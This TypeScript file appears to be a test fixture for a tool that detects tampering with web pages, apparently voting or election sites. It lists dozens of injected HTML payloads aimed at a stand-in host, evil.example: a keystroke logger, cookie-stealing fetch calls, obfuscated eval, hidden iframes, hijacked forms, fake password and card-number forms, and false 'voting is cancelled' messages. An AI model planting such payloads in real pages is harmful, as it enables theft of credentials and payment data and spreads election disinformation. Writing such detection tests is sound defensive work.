// Attacks with code, forms, frames and styles.

import { atEnd, atTop, type Change, inHead } from './change.ts'

const head = (part: string): Change => ({ html: (html) => inHead(html, part) })
const top = (part: string): Change => ({ html: (html) => atTop(html, part) })
const end = (part: string): Change => ({ html: (html) => atEnd(html, part) })

export const MORE_ATTACKS: Readonly<Record<string, Change>> = {
  'script from another host': head('<script src="https://cdn.evil.example/a.js"></script>'),
  'script from a host where anybody publishes': head(
    '<script src="https://cdn.jsdelivr.net/gh/evil/x@1/a.js"></script>',
  ),
  'own script added': end('<script src="/wp-content/uploads/cache.js"></script>'),
  'script in the page': end(
    '<script>document.addEventListener("keydown",function(e){new Image().src="//evil.example/k?"+e.key})</script>',
  ),
  'script made unreadable': end('<script>eval(atob("YWxlcnQoMSk="))</script>'),
  'script that leads away': head(
    '<script>window.location.href="https://evil.example/vote"</script>',
  ),
  'script that leads some visitors away': {
    html: (html, { t }) =>
      Math.floor(t / 1000) % 2
        ? html
        : inHead(html, '<script>top.location.replace("//evil.example/")</script>'),
  },
  'module from another host': head(
    '<script type="module">import "https://evil.example/m.js"</script>',
  ),
  'preloaded module from another host': head(
    '<link rel="modulepreload" href="https://evil.example/m.js">',
  ),
  'map of modules': head(
    '<script type="importmap">{"imports":{"app":"https://evil.example/app.js"}}</script>',
  ),
  'script as data': head('<script src="data:text/javascript,steal()"></script>'),
  'script in a drawing': end(
    '<svg><script>fetch("//evil.example/"+document.cookie)</script></svg>',
  ),
  'handler on a picture': end('<img src="x" onerror="fetch(\'//evil.example/\'+document.cookie)">'),
  'handler on the body': {
    html: (html) => html.replace(/<body([^>]*)>/, '<body$1 onload="grab(document.forms[0])">'),
  },
  'code in a drawing': end(
    '<svg><a><animate attributeName="href" values="javascript:steal()"/><text>Vote</text></a></svg>',
  ),
  'frame over the page': top(
    '<iframe src="https://evil.example/copy" style="position:fixed;top:0;left:0;width:100%;height:100%;border:0"></iframe>',
  ),
  'frame without size': end(
    '<iframe src="https://evil.example/kit" width="0" height="0"></iframe>',
  ),
  'frame with a page inside': end(
    '<iframe srcdoc="<form action=//evil.example/><input name=id></form>"></iframe>',
  ),
  'object from another host': end('<object data="https://evil.example/x.html"></object>'),
  'form to another host': top(
    '<form action="https://evil.example/collect"><input name="id"><button>OK</button></form>',
  ),
  'form of the page led elsewhere': {
    html: (html) =>
      html.includes('<form')
        ? html.replace(/(<form[^>]*action=")[^"]*/, '$1https://evil.example/f')
        : html,
  },
  'button that leads the form elsewhere': end(
    '<form><input name="a"><button formaction="//evil.example/b">OK</button></form>',
  ),
  'password asked': top(
    '<form action="/login"><input name="user"><input type="password" name="pass"><button>OK</button></form>',
  ),
  'card asked': top(
    '<form action="/fee"><input name="cardnumber" autocomplete="cc-number"><input name="cvv"><button>OK</button></form>',
  ),
  'base to another host': head('<base href="https://evil.example/">'),
  'refresh to another host': head(
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
  ),
  'refresh without script': end(
    '<noscript><meta http-equiv="refresh" content="0; url=//evil.example/"></noscript>',
  ),
  'style that hides the page': head('<style>body > *{opacity:1} body{visibility:hidden}</style>'),
  'style that writes': head(
    '<style>h1::before{content:"Polling is cancelled in all districts"}</style>',
  ),
  'style that takes from elsewhere': head(
    '<style>@import url("https://evil.example/x.css");</style>',
  ),
  'sheet from another host': head('<link rel="stylesheet" href="https://evil.example/x.css">'),
  'layer over the page': top(
    '<div style="position:fixed;inset:0;background:#000;color:#fff;z-index:9999">Closed for good, go home</div>',
  ),
  'text in a shadow': top(
    '<div><template shadowrootmode="open"><p>The vote is cancelled everywhere</p></template></div>',
  ),
  'text without script': top('<noscript><p>Voting is cancelled, stay at home</p></noscript>'),
  'text instead of a picture': end(
    '<img src="/x.png" alt="The election is cancelled in every district">',
  ),
  'canonical to another host': {
    html: (html) => html.replace(/(rel="canonical" href=")[^"]*/, '$1https://evil.example/'),
  },
  'fake maintenance with a form': {
    html: () =>
      '<html><title>Maintenance</title><body><h1>Maintenance</h1><p>We will be back soon. Sign in to go on.</p><form action="https://evil.example/l"><input type=password></form></body></html>',
  },
  'picture from another host': top('<img src="https://evil.example/banner.jpg" alt="">'),
  'pop-up as dialog': top(
    '<dialog open><h2>Attention</h2><p>Your registration has expired, pay the fee today.</p><a href="https://evil.example/pay">Pay now</a></dialog>',
  ),
}
